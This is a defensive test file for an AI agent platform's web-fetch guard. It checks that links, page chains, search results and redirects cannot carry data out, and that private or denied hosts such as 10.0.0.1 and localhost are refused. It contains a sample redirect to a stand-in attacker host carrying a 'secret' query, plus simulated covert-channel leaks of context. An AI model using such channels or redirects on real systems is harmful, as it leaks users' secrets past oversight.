// Guards which addresses a run may fetch: honest research needs no approval; links, chains of pages and redirects
// cannot encode data; and an address that is not public is never reached, however it is written.

import { runInDurableObject } from 'cloudflare:test'
import { env } from 'cloudflare:workers'
import { beforeAll, beforeEach, describe, expect, inject, it } from 'vitest'
import { LINK_BITS_DEFAULT } from '../../src/env/limits.ts'
import { HOSTS, URLS } from '../unit/net/forms.ts'
import { came, evil, forgetCame, given, harm, obeys, operator, resultsIn, says, serve } from './attack-rig.ts'
import type { Use } from './attack-phrases.ts'
import { chat, got, makeKey, send, serveSkills } from './api-fixture.ts'

let key = ''
beforeAll(async () => {
  await serveSkills([{ name: 'alpha', description: 'Built in.' }])
  key = (await makeKey('chat', 'ann')).key
})
beforeEach(async () => {
  operator.privateHosts = []
  await forgetCame()
})

const at = (path: string): string => `http://${given}${path}`
const fetched = (url: string, prompt?: string): Use => ({
  name: 'web_fetch',
  input: { url, ...(prompt ? { prompt } : {}) },
})
const PROSE = 'All lamps of the house are listed here, with their makers and their years. '.repeat(9)
const html = (path: string, links: readonly string[]): { path: string; body: string } => ({
  path,
  body: `<title>Lamps</title><main><h1>Lamps</h1><p>${PROSE}</p>${links.map((link) => `<p>See <a href="${link}">${link}</a> for more.</p>`).join('')}</main>`,
})

/** The calls divided into messages of five, the number that may run in parallel. */
function inFives(uses: readonly Use[]): readonly (readonly Use[])[] {
  return Array.from({ length: Math.ceil(uses.length / 5) }, (_, n) => uses.slice(5 * n, 5 * n + 5))
}

describe('honest research', () => {
  it('searches, reads ten of the results, writes a report, and needs no approval', async () => {
    const paths = Array.from({ length: 10 }, (_, n) => `/results/${n}`)
    const results = paths.map((path) => ({ title: `On ${path}`, url: at(path), content: 'Lamps.' }))
    await serve(
      { path: '/searx/search', body: JSON.stringify({ results }), type: 'application/json' },
      ...paths.map((path) => html(path, ['/else'])),
    )
    const report = '/mnt/user-data/outputs/report.md'
    obeys([
      [{ name: 'web_search', input: { query: 'lamps', max_results: 10 } }],
      ...inFives(paths.map((path) => fetched(at(path)))),
      [{ name: 'write_file', input: { path: report, content: '# Lamps\n' } }],
      [{ name: 'present_files', input: { paths: [report] } }],
    ])
    const { events, last, thread } = await chat({ message: 'Write a report about lamps.' }, { key })
    expect(last).toMatchObject({ type: 'run.completed', receipt: { approvals: [] } })
    expect(events.filter(({ type }) => type === 'approval.requested')).toEqual([])
    expect(events.filter(({ type }) => type === 'artifact.presented')).toHaveLength(1)
    expect((await resultsIn(thread)).filter(({ failed }) => failed)).toEqual([])
    expect((await came()).filter((line) => line.includes('/results/'))).toHaveLength(10)
  })
})

describe('links', () => {
  it('of one page cannot encode data: once their choice could carry 40 bits a person is asked', async () => {
    const letters = Array.from({ length: 45 }, (_, n) => `/spell/${n}`)
    await serve(html('/start', letters))
    obeys([[fetched(at('/start'))], ...inFives(letters.map((path) => fetched(at(path))))])
    const { status } = await says({ message: `Read ${at('/start')}` }, key)
    expect(status).toBe('waiting')
    expect((await came()).filter((line) => line.includes('/spell/'))).toHaveLength(
      Math.floor(LINK_BITS_DEFAULT / Math.log2(47)),
    )
  })

  it('listed by a person cannot encode data, by interleaved calls or a second spelling', async () => {
    const paths = Array.from({ length: 40 }, (_, n) => `/list/${n}`)
    await serve(...paths.map((path) => html(path, [])))
    const context = { ticket: 'The key of the house.' }
    const message = `Please read each of these: ${paths.map(at).join(', ')}, thanks`
    obeys(inFives(paths.map((path) => fetched(at(path)))))
    expect(await says({ message, context }, key)).toMatchObject({ status: 'completed' })
    expect((await came()).filter((line) => line.includes('/list/'))).toHaveLength(40)

    await forgetCame()
    const skip = (url: string): Use => ({ name: 'web_fetch', input: { url, more: 1 } })
    obeys(inFives(paths.map((path, n) => (n % 2 === 0 ? skip(at(path)) : fetched(at(path))))))
    expect(await says({ message, context }, key)).toMatchObject({ status: 'waiting' })
    expect((await came()).filter((line) => line.includes('/list/')).length).toBeLessThan(6)

    await forgetCame()
    obeys(inFives(paths.map((path, n) => fetched(at(path) + (n % 2 === 0 ? ',' : '')))))
    expect(await says({ message, context }, key)).toMatchObject({ status: 'waiting' })
    expect((await came()).filter((line) => line.includes('/list/')).length).toBeLessThan(25)
  })

  it('of pages that lead to pages with their own links cannot encode data', async () => {
    const pages = Array.from({ length: 45 }, (_, n) => `/chain/${n}`)
    await serve(
      html('/start', ['/chain/0', '/chain/other']),
      ...pages.map((path, n) => html(path, [`/chain/${n + 1}`, '/chain/other'])),
    )
    obeys([[fetched(at('/start'))], ...pages.map((path) => [fetched(at(path))])])
    const { status } = await says({ message: `Read ${at('/start')}` }, key)
    expect(status).toBe('waiting')
    const followed = (await came()).filter((line) => line.includes('/chain/'))
    // They are among the links of all pages read until then, and the address that the user named.
    expect(followed).toHaveLength(12)
  })

  it("in search results cannot encode data when the model's own query found them", async () => {
    const paths = Array.from({ length: 10 }, (_, n) => `/results/${n}`)
    const results = paths.map((path) => ({ title: `On ${path}`, url: at(path), content: 'Lamps.' }))
    await serve(
      { path: '/searx/search', body: JSON.stringify({ results }), type: 'application/json' },
      ...paths.map((path) => html(path, [])),
    )
    obeys([
      [{ name: 'web_search', input: { query: 'lamps of the customer', max_results: 10 } }],
      ...inFives(paths.map((path) => fetched(at(path)))),
    ])
    const { status, thread, run } = await says(
      { message: 'Go.', context: { ticket: 'The key of the house.' } },
      key,
    )
    expect(status).toBe('waiting')
    expect((await came()).filter((line) => line.includes('/results/'))).toHaveLength(5)
    const { data } = await got<{ data: { run_id: string; reason: string }[] }>(
      send('GET /v1/approvals?limit=100', { key }),
    )
    const requested = data.filter(({ run_id }) => run_id === run)
    expect(requested.map(({ reason }) => reason.includes(`any link on that host`))).toEqual([true])
    expect((await resultsIn(thread)).length).toBeGreaterThan(0)
  })

  it.each([
    ['web_search', 'url'],
    ['image_search', 'img_src'],
  ])('of %s to a host that only the operator names are not fetched without approval', async (name, field) => {
    operator.privateHosts = [given]
    const hit = { title: 'Lamps', url: 'https://example.com/', content: 'Lamps.', [field]: at('/jobs/1') }
    await serve({
      path: '/searx/search',
      body: JSON.stringify({ results: [hit] }),
      type: 'application/json',
    })
    obeys([[{ name, input: { query: 'lamps' } }], [fetched(at('/jobs/1'))]])
    expect(await says({ message: 'Go.' }, key)).toMatchObject({ status: 'waiting' })
    expect((await came()).filter((line) => line.includes('/jobs/'))).toEqual([])
  })

  it("are stored with the call in the thread's rows, and a long page is a file of the thread", async () => {
    const long = html('/long', ['/one'])
    await serve({
      ...long,
      body: long.body.replace('</p>', `</p>${`<h2>More</h2><p>${PROSE}</p>`.repeat(300)}`),
    })
    obeys([[fetched(at('/long'), 'makers')]])
    const { thread, status } = await says({ message: `Read ${at('/long')}` }, key)
    expect(status).toBe('completed')
    const notes = await runInDurableObject(env.THREADS.getByName(`default/${thread}`), (_, { storage }) =>
      storage.sql.exec<{ notes: string }>('SELECT notes FROM tool_calls').toArray(),
    )
    expect(notes.map((row): unknown => JSON.parse(row.notes))).toEqual([
      [{ type: 'links', page: at('/long'), links: [at('/one')] }],
    ])
    const [result] = await resultsIn(thread)
    const file = /\/mnt\/user-data\/(workspace\/web\/[^\s:]+\.md)/.exec(result?.text ?? '')?.[1] ?? ''
    const kept = await send(`GET /v1/threads/${thread}/files/${file}`, { key })
    expect(kept.status).toBe(200)
    expect((await kept.text()).match(/## More/g)).toHaveLength(300)
    const { data } = await got<{ data: { origin: string }[] }>(
      send(`GET /v1/threads/${thread}/files`, { key }),
    )
    expect(data.map(({ origin }) => origin)).toEqual(['tool'])
  })
})

describe('a redirect', () => {
  it('of a given address stays on given hosts', async () => {
    const to = (path: string, location: string) => ({
      path,
      body: '',
      status: 302,
      headers: { Location: location },
    })
    await serve(
      html('/start', ['/away', '/about', '/twice']),
      to('/away', `http://${evil}/take?d=the-secret-of-the-tests`),
      to('/twice', '/away'),
      to('/about', '/end'),
      html('/end', []),
    )
    obeys([[fetched(at('/start'))], [fetched(at('/away'))], [fetched(at('/twice'))], [fetched(at('/about'))]])
    const { thread, status } = await says({ message: `Read ${at('/start')}` }, key)
    expect(status).toBe('completed')
    expect(await harm()).toEqual([])
    const results = await resultsIn(thread)
    expect(results.map(({ failed }) => failed)).toEqual([false, true, true, false])
    expect(results[1]?.text).toContain('is the target of a redirect that this call may not follow')
  })

  it('of the first fetch, before any text from outside, goes wherever the guard allows', async () => {
    const headers = { Location: `http://${evil}/public` }
    await serve({ path: '/start', body: '', status: 301, headers })
    obeys([[fetched(at('/start'))]])
    expect(await says({ message: `Read ${at('/start')}` }, key)).toMatchObject({ status: 'completed' })
    expect(await harm()).toEqual(['GET /public'])
  })
})

describe('an address that is not public', () => {
  const { port } = inject('hostile')
  const urls = [...URLS, ...HOSTS.map((host) => `http://${host}:${port}/reached`)]

  it('is refused without asking for approval, and so is a host that the workspace denies', async () => {
    await send('PATCH /admin/settings', { body: { web: { deny_hosts: ['denied.example'] } } })
    const requested = [
      'https://10.0.0.1/',
      'https://localhost/',
      'http://public.example/',
      'https://denied.example/',
    ]
    obeys([requested.map((url) => fetched(url))])
    const { thread, status } = await says({ message: 'Go.', context: { page: 'Fetch these.' } }, key)
    await send('PATCH /admin/settings', { body: { web: null } })
    expect(status).toBe('completed')
    const results = await resultsIn(thread)
    expect(results.map(({ text }) => text.slice(0, 10))).toEqual(requested.map(() => '"Not run: '))
    expect(results.at(-1)?.text).toContain('https://denied.example/ is on a host that this workspace denies')
  })

  it(`is not reached, however it is written (${urls.length} forms, given by the user)`, async () => {
    const count = async (): Promise<string> => (await fetch(`http://127.0.0.1:${port}/count`)).text()
    const before = await count()
    for (let from = 0; from < urls.length; from += 40) {
      const some = urls.slice(from, from + 40)
      obeys(inFives(some.map((url) => fetched(url))))
      const { thread, status } = await says({ message: `Read ${some.join(' ')}` }, key)
      expect(status).toBe('completed')
      const results = await resultsIn(thread)
      expect(results).toHaveLength(some.length)
      expect(results.filter(({ failed }) => !failed)).toEqual([])
    }
    expect(await count()).toBe(before)
    expect(await came()).toEqual([])
  }, 60_000)
})
